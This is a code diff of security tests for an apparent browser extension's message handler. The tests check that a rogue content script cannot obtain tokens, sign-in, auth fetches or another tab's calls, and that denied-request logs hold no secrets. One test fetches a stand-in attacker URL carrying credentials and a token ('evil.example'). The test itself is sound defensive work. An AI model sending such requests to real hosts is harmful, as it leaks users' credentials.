@@ -22,7 +22,7 @@ const say = (sender: unknown, call: unknown) =>
   world.finish(world.pageOf(sender).send({ latchkey: 'call', id: 'x', call: call as Call }));
 
 const fetchOf = (method: string, url: string) => ({
-  kind: 'fetch',
+  type: 'fetch',
   request: { method, url, headers: [], body: null },
   deadlineMs: 1_000,
 });
@@ -31,20 +31,20 @@ const denied = { ok: false, error: { code: 'denied' } };
 
 describe('a content script that turned bad gets', () => {
   test.for([
-    ['the access token', { kind: 'token', scope: null, refused: null, deadlineMs: 1_000 }],
-    ['a capability token', { kind: 'token', scope: 'items:read', refused: null, deadlineMs: 1_000 }],
+    ['the access token', { type: 'token', scope: null, refused: null, deadlineMs: 1_000 }],
+    ['a capability token', { type: 'token', scope: 'items:read', refused: null, deadlineMs: 1_000 }],
     [
       'a sign-in',
       {
-        kind: 'sign-in',
+        type: 'sign-in',
         username: 'a',
         password: 'b',
-        proofOfWork: { challenge: { parameters: {} }, solution: { counter: 1, derivedKey: '' } },
+        solvedChallenge: { challenge: { parameters: {} }, solution: { counter: 1, derivedKey: '' } },
       },
     ],
-    ['a sign-out', { kind: 'sign-out', everywhere: true }],
-    ['the doctor', { kind: 'doctor' }],
-    ['the audit', { kind: 'denied' }],
+    ['a sign-out', { type: 'sign-out', everywhere: true }],
+    ['the doctor', { type: 'doctor' }],
+    ['the denied requests', { type: 'denied' }],
     ['my sessions', fetchOf('GET', '/auth/sessions')],
     ['a new password', fetchOf('POST', '/auth/password')],
     ['a capability token by fetch', fetchOf('POST', '/auth/token')],
@@ -73,7 +73,7 @@ describe('a content script that turned bad gets', () => {
   test('no end of somebody else’s call', async () => {
     world.server.next('/api/items', { delayMs: 2_000 });
     const victim = say({ ...script, tab: { id: 8 } }, { ...fetchOf('GET', '/api/items'), deadlineMs: 9_000 });
-    await say(script, { kind: 'abort', call: 'x' });
+    await say(script, { type: 'abort', call: 'x' });
     expect(await victim).toMatchObject({ ok: true });
   });
 
@@ -84,7 +84,7 @@ describe('a content script that turned bad gets', () => {
         await world
           .wake()
           .dispatch(
-            { is: 'call', message: { latchkey: 'call', id: `${call}`, call: { kind: 'state' } } },
+            { type: 'call', message: { latchkey: 'call', id: `${call}`, call: { type: 'state' } } },
             script,
           ),
       );
@@ -110,7 +110,7 @@ describe('nobody gets an answer who is', () => {
     ['a page that only claims our URL', { ...script, url: `${own}/popup.html` }],
     ['nothing that can be named', undefined],
   ])('%s', async ([_, sender]) => {
-    const call = { kind: 'token', scope: null, refused: null, deadlineMs: 1_000 };
+    const call = { type: 'token', scope: null, refused: null, deadlineMs: 1_000 };
     expect(await say(sender, call)).toMatchObject(denied);
   });
 });
@@ -123,14 +123,14 @@ test('our own page in a tab of its own is our own page', async () => {
     tab: { id: 4 },
     frameId: 0,
   };
-  expect(await say(page, { kind: 'denied' })).toMatchObject({ ok: true });
+  expect(await say(page, { type: 'denied' })).toMatchObject({ ok: true });
 });
 
 describe('messages are parsed, not believed', () => {
   test.for([
-    ['an unknown kind', { kind: 'steal' }],
-    ['a member too many', { kind: 'state', extra: 1 }],
-    ['a wrong type', { kind: 'sign-out', everywhere: 'yes' }],
+    ['an unknown kind', { type: 'steal' }],
+    ['a member too many', { type: 'state', extra: 1 }],
+    ['a wrong type', { type: 'sign-out', everywhere: 'yes' }],
     ['a deadline beyond the limit', { ...fetchOf('GET', '/api/items'), deadlineMs: 1e9 }],
     ['a method that is none', fetchOf('get /', '/api/items')],
     ['nothing', null],
@@ -139,13 +139,13 @@ describe('messages are parsed, not believed', () => {
   });
 
   test('what is wrong is told without its value', async () => {
-    const call = { kind: 'sign-in', username: 'ada', password: { very: 'secret' }, proofOfWork: {} };
+    const call = { type: 'sign-in', username: 'ada', password: { very: 'secret' }, solvedChallenge: {} };
     expect(JSON.stringify(await say(script, call))).not.toContain('secret');
     expect(JSON.stringify(await world.account.denied())).not.toContain('secret');
   });
 });
 
-test('the audit holds no query, no userinfo and no body, and survives the worker', async () => {
+test('the list of denied requests holds no query, no userinfo and no body, and survives the worker', async () => {
   await say(script, fetchOf('GET', 'https://ada:pw@evil.example/x?token=t'));
   world.kill();
   const [entry] = await world.finish(world.account.denied());
